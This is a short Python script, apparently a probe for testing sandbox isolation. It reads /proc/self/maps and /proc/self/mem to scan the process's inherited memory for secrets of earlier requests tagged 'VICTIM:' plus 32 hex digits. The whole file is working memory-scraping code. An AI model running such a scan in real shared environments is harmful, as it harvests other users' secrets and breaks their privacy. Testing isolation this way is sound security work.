# Search this process's own memory (inherited from the sandbox's template) for secrets of
# earlier requests: every "VICTIM:" followed by 32 hex digits. This code holds only the
# prefix, never a secret itself.
import re


def find():
    pattern = re.compile(rb"VICTIM:([0-9a-f]{32})")
    found = set()
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    with open("/proc/self/mem", "rb", 0) as mem:
        for fields in regions:
            if "r" not in fields[1] or (len(fields) > 5 and fields[5].startswith("[v")):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            found.update(m.decode() for m in pattern.findall(chunk))
    return sorted(found)
